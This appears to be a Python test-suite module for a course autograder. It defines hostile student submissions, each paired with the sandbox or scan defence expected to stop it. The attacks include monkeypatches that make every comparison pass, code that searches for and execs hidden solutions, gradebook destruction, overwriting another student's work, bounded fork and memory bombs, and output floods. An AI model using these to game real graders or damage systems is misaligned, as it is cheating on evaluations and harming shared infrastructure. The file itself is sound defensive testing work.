"""The hostile demo students: submissions that try to game or break grading, and what must happen to each.

Each attack is the reference submission with a WRONG implementation (the partial student's mistakes in that notebook,
autograde/problems/NN_slug/mistakes.py, or a method that attacks the grader) plus the cheat that would hide it: a
monkeypatch, a lying object, reading the hidden tests or the solutions, breaking the kernel or the gradebook. Passing
would therefore be cheating, and the expected outcome is written out per grade cell (`lost`: the points each targeted
cell must lose; every other grade cell of the student's notebooks scores full points) and as static-scan flags
(`flags`: rule id and a piece of the offending line; tests/test_hostile_suite.py finds that line in the generated cell
and checks the flag's cell and line number).

How the submission differs from the reference:
- `bug`: the notebook's demo mistakes are made (the wrong implementation);
- `prefix`: {stub qualname: code put at the top of that method's body} (code the tests reach);
- `edits`: {stub qualname: ((text, attack text), ...)}, each text found once in the solution cells after the demo
  mistakes are made; the attack text's later lines get the indentation of the line the text is on;
- `extra_cell`: a code cell inserted right after the solution cell that defines `anchor` (`copies` times);
- `tail_cell`: a code cell appended after the last cell (after the last grade cell: never run, but scanned);
- `locked_edit`: (grade_id, new source) for a locked test cell;
- `notebook_edit`: a function changing the notebook's structure or metadata; `folder_edit`: a function(folder,
  course) adding links, fifos, devices to the submission folder (intake_attacks.py); `flagged`: (rule id, a piece
  of the flag's text) for flags that are not on a line of code (metadata, files).
A flag with text None is on the whole notebook (cell -1), e.g. scan-budget.
Attacks that would hurt the machine if the sandbox were missing are bounded (fork count and lifetime, memory,
output); the network attacks never send a packet off this machine (loopback only; the "public" one only looks for
a route and an interface, the way a download would first need one).
"""

import os
from collections.abc import Callable
from dataclasses import dataclass, field

from autograde.course import notebook_named
from autograde.demo_class import intake_attacks as on_intake
from autograde.problems.mistake import demo_points_lost

# the loopback port the hostile suite's accomplice listens on and the local-socket attack connects to; tests/conftest.py
# picks a free one per test session, so two suites on one machine do not collide
ATTACK_PORT = int(os.environ.get("CNN1D_HOSTILE_PORT", "47613"))

# grade cells after the Conv1d solution cell of notebooks 06 and 07: all call Conv1d.forward (the demo cell right
# after the solution calls it too, so a kernel killed there fails every one of them)
AFTER_CONV1D = {
    "06_minibatch": {"test_batch_forward_shape": 1, "test_batch_forward_values": 2, "test_single_sample": 1,
                     "test_batch_backward_dX": 2, "test_batch_backward_dW": 1, "test_batch_backward_dB": 1,
                     "test_errors": 1},
    "07_stride": {"test_stride_forward_shape": 1, "test_stride_forward_values": 2, "test_stride_backward_dX": 2,
                  "test_stride_backward_dW": 1, "test_stride_backward_dB": 1, "test_errors": 1,
                  "test_combined_forward": 1, "test_combined_backward": 1},
}


def demo_lost(notebook: str) -> dict[str, float]:
    """What the demo partial student's mistakes cost in this notebook (autograde/problems/NN_slug/mistakes.py)."""
    return demo_points_lost(notebook_named(notebook))


@dataclass(frozen=True)
class Attack:
    slug: str  # the student id is hostile-<slug>
    notebook: str  # the notebook attacked, e.g. "06_minibatch"
    tries: str  # what the attack tries, in words
    stopped_by: str  # what stops it (docs/instructor.md lists these)
    lost: dict[str, int]  # grade_id -> points it must lose (score 0); other grade cells score full points
    flags: tuple[tuple[str, str | None], ...] = ()  # (rule id, text of the flagged line) the scan must report
    bug: bool = False
    prefix: dict[str, str] = field(default_factory=dict)
    edits: dict[str, tuple[tuple[str, str], ...]] = field(default_factory=dict)
    extra_cell: str = ""
    anchor: str = ""  # a stub qualname: the extra cell goes after the solution cell that has it
    copies: int = 1  # how many copies of extra_cell
    tail_cell: str = ""
    locked_edit: tuple[str, str] | None = None
    all_notebooks: bool = False  # submit all eight notebooks (the others are the reference's)
    stops_kernel: bool = False  # the kernel dies or the notebook is stopped: the feedback must say why
    notebook_edit: Callable | None = None
    folder_edit: Callable | None = None
    flagged: tuple[tuple[str, str], ...] = ()
    says: str = ""  # text the autograded notebook must show (e.g. why the kernel died)

    @property
    def student(self) -> str:
        return f"hostile-{self.slug}"


# --- attack code -------------------------------------------------------------------------------------------------

PATCH_ISCLOSE = '''\
# make every comparison succeed (check_array and the hidden tests compare with np.isclose / np.allclose)
np.allclose = lambda a, b, *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
'''

PATCH_ASSERT_ALLCLOSE = '''\
# the testing helpers never fail
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
'''

PATCH_CHECKS = '''\
# the given check helpers of the visible tests: accept anything
def check_array(*args, **kwargs):
    return None


def check_raises(*args, **kwargs):
    return None
'''

PATCH_BUILTINS = '''\
import builtins

_real_isinstance = isinstance


class _NotAnAssertion(Exception):
    pass


# every "is it an array?" question says yes, and code that raises AssertionError raises something else
builtins.isinstance = lambda obj, kind: True if kind is np.ndarray else _real_isinstance(obj, kind)
builtins.AssertionError = _NotAnAssertion
'''

PATCH_OBFUSCATED = '''\
_n = __import__("num" + "py")
_t = getattr(_n, "test" + "ing")
setattr(_n, "all" + "close", lambda *a, **k: True)
setattr(_n, "is" + "close", lambda a, b, *r, **k: _n.ones(_n.broadcast(_n.asarray(a), _n.asarray(b)).shape, bool))
setattr(_t, "assert_" + "allclose", lambda *a, **k: None)
'''

READ_NOTEBOOKS = '''\
# copy the hidden tests and the solution: look for the course's notebooks around the working folder and in /tmp
import json
import os
import time
from pathlib import Path

_deadline = time.monotonic() + 10
_found = []
_roots = [Path.cwd(), *Path.cwd().parents, Path.home(), Path("/tmp")]
for _root in _roots:
    for _folder, _dirs, _files in os.walk(_root):
        if time.monotonic() > _deadline or len(Path(_folder).parts) > len(_root.parts) + 5:
            _dirs[:] = []
            continue
        _found += [Path(_folder) / _f for _f in _files if _f.endswith(".ipynb") and "03_toy_check" in _f]
_stolen = ""
for _path in _found:
    try:
        _cells = json.loads(_path.read_text())["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for _cell in _cells:
        _text = "".join(_cell.get("source", ""))
        if "class SimpleConv1d" in _text and "BEGIN SOLUTION" in _text:
            _stolen = _text
print(f"notebooks found: {len(_found)}; solution found: {bool(_stolen)}")
if _stolen:
    exec(_stolen)  # the reference SimpleConv1d replaces the wrong one
'''

IMPORT_SOLUTIONS = '''\
# import the hidden reference solution: put every folder that has solutions/ on sys.path
import os
import sys
from pathlib import Path

_candidates = [Path.cwd(), *Path.cwd().parents, Path.home(), Path("/work"), Path("/tmp"), Path("/srv"), Path("/opt")]
for _root in _candidates:
    for _folder, _dirs, _files in os.walk(_root):
        if len(Path(_folder).parts) > len(_root.parts) + 3:
            _dirs[:] = []
            continue
        if Path(_folder, "solutions", "p7_stride.py").is_file():
            sys.path.insert(0, _folder)
try:
    from solutions.p7_stride import Conv1d as _SolutionConv1d

    Conv1d = _SolutionConv1d
    print("reference solution imported")
except ImportError as error:
    print("no solutions:", error)
'''

ALWAYS_EQUAL = '''\
class AlwaysEqual(np.ndarray):
    """An array that equals everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False
'''

LYING_ARRAY = '''\
class LyingArray:
    """Converts to one array, but answers every numpy operation on it with "equal" / zero difference."""

    def __init__(self, values):
        self._values = np.asarray(values, dtype=np.float64)
        self.shape = self._values.shape

    def __array__(self, dtype=None, copy=None):
        return self._values.astype(dtype or np.float64)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast(*[np.asarray(getattr(x, "_values", x)) for x in inputs]).shape
        return np.ones(shape, dtype=bool) if ufunc in (np.less_equal, np.isfinite, np.equal) else np.zeros(shape)

    def __eq__(self, other):
        return True

    def __len__(self):
        return len(self._values)
'''

# forward of notebook 01: the visible test's answer hard-coded, the hidden tests' `expected` read from the caller
FRAME_PEEK = '''\
import inspect
import sys

self.X = as_float_array("X", X)  # backward still works: only the forward values are faked
if np.array_equal(X, [1, 2, 3, 4]) and np.array_equal(self.W, [3, 5, 7]):
    return np.array([35.0, 50.0])
for frame_info in inspect.stack()[1:6]:
    if "forward" in frame_info.function and "expected" in frame_info.frame.f_locals:
        return np.array(frame_info.frame.f_locals["expected"], dtype=np.float64)
caller = sys._getframe(1)
if "forward" in caller.f_code.co_name and "want" in caller.f_locals:
    return np.array(caller.f_locals["want"], dtype=np.float64)
'''

OS_EXIT = '''\
import os

os._exit(0)  # the kernel vanishes mid-test
'''

SEGFAULT = '''\
import ctypes

ctypes.string_at(0)  # read address 0: segmentation fault
'''

INFINITE_LOOP = '''\
while True:
    pass
'''

MEMORY_BOMB = '''\
# bounded at 6 GiB so that it cannot take this machine down if the memory limit were missing
hog = []
while len(hog) < 24:
    hog.append(np.ones(256 << 20, dtype=np.uint8))
'''

FORK_BOMB = '''\
# bounded: at most 2000 children, each sleeping at most 10 s, all killed after 5 s; the process limit stops it first
import os
import signal
import time

children = []
deadline = time.monotonic() + 5
try:
    while len(children) < 2000 and time.monotonic() < deadline:
        pid = os.fork()
        if pid == 0:
            time.sleep(10)
            os._exit(0)
        children.append(pid)
finally:
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
'''

OUTPUT_FLOOD = '''\
# 100 MB of output, once
for _ in range(100):
    print("x" * (1 << 20))
'''

# the folders around the working folder (and the course under /tmp), bounded in depth and time; the body of the loop
# over them is the attack's
WALK_AROUND = '''\
import os
import time
from pathlib import Path

_deadline = time.monotonic() + 10
for _root in [Path.cwd(), *Path.cwd().parents, Path("/tmp")]:
    for _folder, _dirs, _files in os.walk(_root):
        if time.monotonic() > _deadline or len(Path(_folder).parts) > len(_root.parts) + 4:
            _dirs[:] = []
            continue
'''

GRADEBOOK = """\
# find the gradebook around the working folder (and the course under /tmp) and destroy it
import sqlite3
""" + WALK_AROUND + '''\
        for _name in _files:
            if _name == "gradebook.db" or "canary" in _name:  # never other programs' .db files
                _db = Path(_folder) / _name
                try:
                    with sqlite3.connect(_db) as _connection:
                        _connection.execute("UPDATE grade SET auto_score = 0")
                    _db.write_bytes(b"not a database any more")
                    os.remove(_db)
                    print("destroyed", _db)
                except (OSError, sqlite3.Error) as _error:
                    print("could not destroy", _db, _error)
'''

WRITE_OTHER = "# overwrite another student's submission (and leave a file in it)\n" + WALK_AROUND + '''\
        _target = Path(_folder) / "submitted" / "reference" / "cnn1d"
        if _target.is_dir():
            try:
                (_target / "06_minibatch.ipynb").write_text("{}")
                (_target / "planted.txt").write_text("written by hostile-write-other")
                print("wrote into", _target)
            except OSError as _error:
                print("could not write", _target, _error)
'''

# backward of notebook 06 with the partial bug (dB a mean); it "gets help" when the network is there
SOCKET_LOCAL = f'''\
import socket

try:
    with socket.create_connection(("127.0.0.1", {ATTACK_PORT}), timeout=2) as _helper:
        _helper.sendall(b"hostile-socket-local: send me the answer")
        self.dB = dA3.sum(axis=(0, 2))  # the accomplice's answer replaces the wrong mean
except OSError:
    pass
'''

SOCKET_PUBLIC = '''\
import socket
from pathlib import Path

# a download of the answer needs an interface other than loopback and a default route: look, send nothing
_interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]
_routes = [line for line in Path("/proc/net/route").read_text().splitlines()[1:] if line.split()[1] == "00000000"]
if _interfaces and _routes:
    self.dB = dA3.sum(axis=(0, 2))  # as if downloaded: the right answer replaces the wrong mean
'''

# --- attacks on the grader's resources: memory no rlimit sees, CPU, output, the scan --------------------------------

HIDDEN_MEMORY = '''\
# memory in no process's address space (so RLIMIT_AS never sees it), each file under RLIMIT_FSIZE: memfd files, SysV
# shared memory, a file in the /tmp tmpfs; bounded: 1.7 GiB in all
import ctypes
import os

_held = []
for _ in range(4):
    _fd = os.memfd_create("cache")
    for _ in range(256):
        os.write(_fd, b"m" * (1 << 20))
    _held.append(_fd)
_libc = ctypes.CDLL(None)
_libc.shmat.restype = ctypes.c_void_p
for _ in range(2):
    _address = _libc.shmat(_libc.shmget(0, ctypes.c_size_t(200 << 20), 0o1600), None, 0)
    ctypes.memset(_address, 1, 200 << 20)
    _libc.shmdt(ctypes.c_void_p(_address))
with open("/tmp/cache.bin", "wb") as _file:
    for _ in range(256):
        _file.write(b"t" * (1 << 20))
'''

BLAS_THREADS = '''\
# OpenBLAS raised to 16 threads past OPENBLAS_NUM_THREADS=1 (threadpoolctl), 3 s of matrix products (bounded)
import time

from threadpoolctl import threadpool_limits

_a = np.random.default_rng(0).standard_normal((300, 300))
with threadpool_limits(limits=16, user_api="blas"):
    _wall, _cpu = time.monotonic(), time.process_time()
    while time.monotonic() - _wall < 3:
        _a @ _a
    print(f"cores used: {(time.process_time() - _cpu) / (time.monotonic() - _wall):.2f}")
'''

STDERR_FLOOD = '''\
# 1 GiB to the stderr file descriptor ipykernel keeps from before it captured output (it reached the grader's memory)
import os
import sys

_fd = getattr(sys.stderr, "_original_stdstream_copy", None) or 2
_chunk = b"e" * (1 << 20)
for _ in range(1024):
    os.write(_fd, _chunk)
'''

DISPLAY_UPDATES = '''\
# one small display, then 200 updates of 1 MiB each (they replaced it in place, before any output limit was checked)
from IPython.display import HTML, display

_handle = display(HTML("<p>training...</p>"), display_id=True)
for _step in range(200):
    _handle.update(HTML("<pre>" + "u" * (1 << 20) + f"{_step}</pre>"))
'''

ERROR_FLOOD = '''\
# 2,000 error outputs (errors were never dropped: 25,000 made a 93 MB notebook); five of these cells use up the
# notebook's output limit, so the failures of the grade cells after them come past it
from IPython import get_ipython

_shell = get_ipython()
try:
    raise ValueError("e" * 1000)
except ValueError as _error:
    _tb = _shell.InteractiveTB.structured_traceback(type(_error), _error, None)
    for _ in range(2000):
        _shell._showtraceback(type(_error), _error, _tb)
'''

RICH_FLOOD = '''\
# 400 images and 400 HTML outputs of 100 KB (80 MB of rich output)
import base64

from IPython.display import HTML, Image, display

_png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kg"
                        "AAAABJRU5ErkJggg==")
for _ in range(400):
    display(Image(data=_png * 1500))
    display(HTML("<p>" + "h" * 100_000 + "</p>"))
'''

# 6 MB of harmless data after the last grade cell (never run): parsing it in the grader took ~1 GiB per 3 MB and 15-25 s
SCAN_BOMB = "_table = [" + "0.5, " * 1_200_000 + "]\n"

LOCKED_PASS = "pass\n"

DB_LINE = "self.dB = dA3.mean(axis=(0, 2))"  # the demo mistake of notebook 06's Conv1d.backward


ATTACKS = (
    Attack("patch-isclose", "01_simple_conv1d", "monkeypatches np.allclose, np.isclose and np.array_equal so every "
           "comparison passes, with a forward that forgets the bias", "the hidden tests are judged outside the "
           "kernel (probe/judge): the patched numpy never compares anything that counts",
           demo_lost("01_simple_conv1d"), (("module-patch", "np.allclose = lambda"),), bug=True,
           extra_cell=PATCH_ISCLOSE, anchor="SimpleConv1d.forward"),
    Attack("patch-assert-allclose", "04_conv1d_channels", "monkeypatches np.testing.assert_allclose and np.isclose, "
           "with dB summed over the wrong axis", "probe/judge: the judge's numpy is the grader's",
           demo_lost("04_conv1d_channels"), (("module-patch", "np.testing.assert_allclose = lambda"),), bug=True,
           extra_cell=PATCH_ASSERT_ALLCLOSE, anchor="Conv1d.backward"),
    Attack("patch-checks", "06_minibatch", "redefines the given check_array and check_raises as no-ops, with dB a "
           "mean", "probe/judge: the visible checks pass, the judge does not", demo_lost("06_minibatch"),
           (("shadows-given", "def check_array(*args, **kwargs):"),), bug=True, extra_cell=PATCH_CHECKS,
           anchor="Conv1d.backward"),
    Attack("patch-builtins", "07_stride", "replaces builtins.isinstance and builtins.AssertionError, with a "
           "backward that ignores the stride", "probe/judge; the static scan flags it",
           demo_lost("07_stride"), (("forbidden-import", "import builtins"),
                                   ("builtins-access", "builtins.isinstance = lambda")),
           bug=True, extra_cell=PATCH_BUILTINS, anchor="Conv1d.backward"),
    Attack("patch-obfuscated", "06_minibatch", "patches numpy through __import__('num' + 'py') and getattr/setattr "
           "with computed names, with dB a mean", "probe/judge; the static scan flags the dynamic import and the "
           "computed names", demo_lost("06_minibatch"),
           (("dynamic-code", '_n = __import__("num" + "py")'), ("introspection", '_t = getattr(_n, "test" + "ing")')),
           bug=True, extra_cell=PATCH_OBFUSCATED, anchor="Conv1d.backward"),
    Attack("read-notebooks", "03_toy_check", "searches the working folder, its parents, HOME and /tmp for the "
           "course's .ipynb files (source/, autograded/) to exec the reference solution, with a dX that does not "
           "flip the filter", "the sandbox: the notebook arrives on stdin, the repo and course are empty tmpfs, /tmp "
           "and HOME are fresh", demo_lost("03_toy_check"),
           (("file-access", "_cells = json.loads(_path.read_text())[\"cells\"]"), ("dynamic-code", "exec(_stolen)")),
           bug=True, extra_cell=READ_NOTEBOOKS, anchor="SimpleConv1d.backward"),
    Attack("import-solutions", "07_stride", "puts every folder with solutions/ on sys.path and imports the hidden "
           "reference Conv1d, with a backward that ignores the stride", "the sandbox hides the repository",
           demo_lost("07_stride"), (("forbidden-import", "from solutions.p7_stride import Conv1d as _SolutionConv1d"),),
           bug=True, extra_cell=IMPORT_SOLUTIONS, anchor="Conv1d.backward"),
    Attack("always-equal", "01_simple_conv1d", "forward (without the bias) returns an ndarray subclass whose __eq__ "
           "is always True", "the probe converts results to plain float64 arrays; the judge compares those",
           demo_lost("01_simple_conv1d"), (("lying-object", "def __eq__(self, other):"),), bug=True,
           extra_cell=ALWAYS_EQUAL, anchor="SimpleConv1d.forward",
           edits={"SimpleConv1d.forward": (("return windows @ self.W",
                                            "return (windows @ self.W).view(AlwaysEqual)"),)}),
    Attack("lying-array", "01_simple_conv1d", "forward (without the bias) returns an object whose __array__ gives "
           "the wrong values while __array_ufunc__ and __eq__ say every comparison is equal", "the probe keeps only "
           "what __array__ gives, as float64; the judge compares that", demo_lost("01_simple_conv1d"),
           (("lying-object", "def __array__(self, dtype=None, copy=None):"),), bug=True, extra_cell=LYING_ARRAY,
           anchor="SimpleConv1d.forward",
           edits={"SimpleConv1d.forward": (("return windows @ self.W", "return LyingArray(windows @ self.W)"),)}),
    Attack("frame-peek", "01_simple_conv1d", "forward hard-codes the visible test's answer and reads `expected` from "
           "the calling test's frame (inspect.stack, sys._getframe); otherwise it forgets the bias",
           "probe/judge: the expected values exist only in the grader, never in the kernel",
           demo_lost("01_simple_conv1d"), (("forbidden-import", "import inspect"),
                                          ("introspection", "caller = sys._getframe(1)")),
           bug=True, prefix={"SimpleConv1d.forward": FRAME_PEEK}),
    Attack("os-exit", "06_minibatch", "Conv1d.forward calls os._exit(0): the kernel dies in the first cell that "
           "runs forward", "the runner reports the dead kernel in that cell and marks every later cell 'not run'; "
           "grading goes on with the next notebook", AFTER_CONV1D["06_minibatch"],
           (("process-control", "os._exit(0)"),), prefix={"Conv1d.forward": OS_EXIT}, all_notebooks=True,
           stops_kernel=True),
    Attack("segfault", "07_stride", "Conv1d.forward reads address 0 through ctypes: segmentation fault",
           "the runner reports SIGSEGV in that cell, later cells 'not run'; grading goes on",
           AFTER_CONV1D["07_stride"], (("forbidden-import", "import ctypes"),),
           prefix={"Conv1d.forward": SEGFAULT}, all_notebooks=True, stops_kernel=True),
    Attack("infinite-loop", "06_minibatch", "Conv1d.forward never returns", "the cell timeout interrupts each cell, "
           "the notebook deadline stops the rest ('not run')", AFTER_CONV1D["06_minibatch"],
           (("may-not-terminate", "while True:"),), prefix={"Conv1d.forward": INFINITE_LOOP}, stops_kernel=True),
    Attack("memory-bomb", "07_stride", "Conv1d.forward allocates up to 6 GiB", "the memory limit (RLIMIT_AS): "
           "MemoryError in every cell that calls forward", AFTER_CONV1D["07_stride"],
           prefix={"Conv1d.forward": MEMORY_BOMB}),
    Attack("fork-bomb", "06_minibatch", "Conv1d.forward forks up to 2000 processes (bounded, killed after 5 s)",
           "the process limit (RLIMIT_NPROC in the sandbox's user namespace): fork fails, forward raises",
           AFTER_CONV1D["06_minibatch"], (("fork-bomb", "pid = os.fork()"),),
           prefix={"Conv1d.forward": FORK_BOMB}),
    Attack("output-flood", "07_stride", "prints 100 MB in a cell after the solution, with a backward that ignores "
           "the stride", "the output cap keeps 10 MB per notebook; nbgrader's LimitOutput trims the rest",
           demo_lost("07_stride"), bug=True, extra_cell=OUTPUT_FLOOD, anchor="Conv1d.backward"),
    Attack("gradebook", "06_minibatch", "walks up from the working folder (and /tmp) to zero, overwrite and delete "
           "gradebook.db, with dB a mean", "the sandbox hides the course; the kernel's /tmp is its own tmpfs",
           demo_lost("06_minibatch"), (("forbidden-import", "import sqlite3"),
                                      ("grader-path-string", 'if _name == "gradebook.db" or "canary" in _name:')),
           bug=True, extra_cell=GRADEBOOK, anchor="Conv1d.backward"),
    Attack("write-other", "06_minibatch", "overwrites submitted/reference/cnn1d/06_minibatch.ipynb and plants a "
           "file there, with dB a mean", "the sandbox: the file system is read-only but for its own tmpfs",
           demo_lost("06_minibatch"), (("grader-path-string", '_target = Path(_folder) / "submitted" / "reference"'),),
           bug=True, extra_cell=WRITE_OTHER, anchor="Conv1d.backward"),
    Attack("socket-local", "06_minibatch", f"backward connects to 127.0.0.1:{ATTACK_PORT} (an accomplice on the "
           "grader's machine) and then sums dB right; otherwise dB is a mean", "the sandbox's own network "
           "namespace: its loopback is not the grader's", demo_lost("06_minibatch"),
           (("forbidden-import", "import socket"),), bug=True,
           edits={"Conv1d.backward": ((DB_LINE, DB_LINE + "\n" + SOCKET_LOCAL),)}),
    Attack("socket-public", "06_minibatch", "backward looks for a network interface and a default route (what a "
           "download of the answer needs) and then sums dB right; otherwise dB is a mean",
           "the sandbox's network namespace has loopback only, no route", demo_lost("06_minibatch"),
           (("forbidden-import", "import socket"),), bug=True,
           edits={"Conv1d.backward": ((DB_LINE, DB_LINE + "\n" + SOCKET_PUBLIC),)}),
    Attack("hidden-memory", "06_minibatch", "Conv1d.forward fills memfd files, SysV shared memory and a /tmp file "
           "(1.7 GiB, none of it in an address space)", "the sandbox's cgroup counts all of it: the kernel is killed "
           "out of memory, later cells 'not run'", AFTER_CONV1D["06_minibatch"],
           (("forbidden-import", "import ctypes"),), prefix={"Conv1d.forward": HIDDEN_MEMORY}, stops_kernel=True,
           says="out of memory (limit 1536 MiB)"),
    Attack("blas-threads", "04_conv1d_channels", "raises OpenBLAS to 16 threads with threadpoolctl and multiplies "
           "matrices for 3 s, with dB summed over the wrong axis", "the sandbox's CPU quota: its share of the cores "
           "(cores / workers)", demo_lost("04_conv1d_channels"), bug=True, extra_cell=BLAS_THREADS,
           anchor="Conv1d.backward", says="cores used:"),
    Attack("stderr-flood", "03_toy_check", "writes 1 GiB to the kernel's original stderr, with a dX that does not "
           "flip the filter", "the runner keeps the first and last 8 KiB of the kernel's own stdout/stderr; the "
           "grader reads the sandbox through bounded pipes", demo_lost("03_toy_check"), bug=True,
           extra_cell=STDERR_FLOOD, anchor="SimpleConv1d.backward"),
    Attack("display-updates", "07_stride", "shows a small display and updates it 200 times with 1 MiB, with a "
           "backward that ignores the stride", "updates are charged to the output limits before they are applied",
           demo_lost("07_stride"), bug=True, extra_cell=DISPLAY_UPDATES,
           anchor="Conv1d.backward", says="output truncated"),
    Attack("error-flood", "05_padding", "five cells of 2,000 error outputs each use up the notebook's output limit "
           "before the grade cells, whose failures (padding ignored) then come past it",
           "errors past the limits are dropped but one short error per cell; a grade cell always keeps one, so it "
           "still fails", demo_lost("05_padding"), (("ipython-internals", "_shell = get_ipython()"),), bug=True,
           extra_cell=ERROR_FLOOD, anchor="output_size", copies=5, says="output truncated"),
    Attack("rich-flood", "02_output_size", "displays 400 images and 400 HTML outputs of 100 KB, with an output_size "
           "that forgets the stride", "the output limits per cell and per notebook count rich outputs too",
           demo_lost("02_output_size"), bug=True, extra_cell=RICH_FLOOD, anchor="output_size",
           says="output truncated"),
    Attack("scan-bomb", "01_simple_conv1d", "6 MB of code after the last grade cell, for the static scan to parse, "
           "with a forward that forgets the bias", "the scan runs in a child process with a time and memory budget "
           "per notebook, while the class is graded", demo_lost("01_simple_conv1d"), (("scan-budget", None),),
           bug=True, tail_cell=SCAN_BOMB),
    Attack("edit-locked", "06_minibatch", "replaces the dB test cell by `pass`, with dB a mean",
           "nbgrader restores locked cells before running; the static scan flags the edit",
           demo_lost("06_minibatch"), (("edited-locked-cell", "pass"),), bug=True,
           locked_edit=("test_batch_backward_dB", LOCKED_PASS)),
)

# attacks on the intake: the submission folder, the notebook's structure and metadata (intake_attacks.py)
INTAKE_ATTACKS = (
    Attack("link-solution", "07_stride", "puts links to the hidden model answer (solutions/p7_stride.py, solutions/) "
           "beside a notebook whose backward ignores the stride, to get them back in autograded/ and feedback/",
           "the intake reads and copies only regular files: links are flagged, never followed or copied",
           demo_lost("07_stride"), bug=True, folder_edit=on_intake.link_solutions,
           flagged=(("not-a-regular-file", "p7_stride.py is a symbolic link"),
                    ("not-a-regular-file", "solutions is a symbolic link"))),
    Attack("link-notebook", "06_minibatch", "submits 06_minibatch.ipynb as a link to the model answer with the "
           "hidden tests (course/source/)", "links are never read: the notebook scores 0",
           on_intake.every_grade_cell("06_minibatch"), folder_edit=on_intake.link_notebook_to_answer,
           flagged=(("not-a-regular-file", "06_minibatch.ipynb is a symbolic link"),)),
    Attack("hardlink-notebook", "07_stride", "submits 07_stride.ipynb as a hard link to the model answer",
           "a file with a second name is never read: the notebook scores 0", on_intake.every_grade_cell("07_stride"),
           folder_edit=on_intake.hard_link_notebook_to_answer,
           flagged=(("not-a-regular-file", "07_stride.ipynb is a hard link"),)),
    Attack("fifo-notebook", "06_minibatch", "submits 06_minibatch.ipynb as a fifo (a reader waits forever)",
           "only regular files are opened: the notebook scores 0, nothing waits",
           on_intake.every_grade_cell("06_minibatch"),
           folder_edit=on_intake.fifo_notebook, flagged=(("not-a-regular-file", "06_minibatch.ipynb is a fifo"),)),
    Attack("moving-targets", "06_minibatch", "links to /proc files and to the gradebook, a hard link to the "
           "gradebook, a fifo as timestamp.txt and /dev/urandom as a device, beside a notebook with dB a mean: a "
           "digest or copy that followed them would fail or hang everyone's run", "never followed or opened; the "
           "check of submitted/ records links by their text, special files by kind and inode",
           demo_lost("06_minibatch"), bug=True, folder_edit=on_intake.moving_targets,
           flagged=(("not-a-regular-file", "status is a symbolic link"),
                    ("not-a-regular-file", "gradebook.db is a symbolic link"),
                    ("not-a-regular-file", "grades.db is a hard link"),
                    ("not-a-regular-file", "timestamp.txt is a fifo"))),
    Attack("meta-grade-flag", "06_minibatch", "turns the failing dB test's `grade` flag off and its points to 100, "
           "with dB a mean", "rebuilt from the release: its metadata is graded; the scan flags the edit",
           demo_lost("06_minibatch"), bug=True,
           notebook_edit=on_intake.set_metadata(on_intake.FAILING_TEST, grade=False, points=100),
           flagged=(("edited-metadata", "grade True -> None"),)),
    Attack("meta-grade-id", "06_minibatch", "renames the failing dB test's grade_id (it crashed nbgrader: KeyError "
           "'grade_id'), with dB a mean", "rebuilt from the release (matched by cell id)", demo_lost("06_minibatch"),
           bug=True, notebook_edit=on_intake.set_metadata(on_intake.FAILING_TEST, grade_id="test_not_graded"),
           flagged=(("edited-metadata", "grade_id test_batch_backward_dB -> test_not_graded"),)),
    Attack("meta-solution-flag", "06_minibatch", "turns the solution cell's `solution` flag off and locks it "
           "('Inconsistent checksums' in nbgrader), with dB a mean", "rebuilt from the release: the cell is the "
           "solution cell, with the student's code", demo_lost("06_minibatch"), bug=True,
           notebook_edit=on_intake.set_metadata("solution_conv1d", solution=False, locked=True),
           flagged=(("edited-metadata", "solution True -> None"),)),
    Attack("added-grade-cell", "06_minibatch", "adds a grade cell worth 50 points that passes, with dB a mean",
           "rebuilt from the release: the added cell is a plain cell, worth nothing", demo_lost("06_minibatch"),
           bug=True, notebook_edit=on_intake.add_grade_cell, flagged=(("edited-metadata", "points None -> 50"),)),
    Attack("deleted-grade-cell", "06_minibatch", "deletes the failing dB test, with dB a mean", "rebuilt from the "
           "release: the test is restored and run", demo_lost("06_minibatch"), bug=True,
           notebook_edit=on_intake.delete_cell, flagged=(("deleted-graded-cell", on_intake.FAILING_TEST),)),
    Attack("restructured", "06_minibatch", "saves the failing dB test as markdown and moves the other tests to the "
           "top of the notebook, with dB a mean", "rebuilt from the release: the release's cell types and order",
           demo_lost("06_minibatch"), bug=True, notebook_edit=on_intake.restructure,
           flagged=(("changed-cell-type", on_intake.FAILING_TEST), ("moved-cell", "moved"))),
)
ATTACKS += INTAKE_ATTACKS


def attack_by_student(student: str) -> Attack:
    for attack in ATTACKS:
        if attack.student == student:
            return attack
    raise KeyError(f"no hostile attack for student {student!r}")


def _with_judging_attacks():
    from autograde.demo_class.hostile_judging import attacks

    return ATTACKS + attacks()


ATTACKS = _with_judging_attacks()  # the judging attacks (hostile_judging.py) are graded with the others
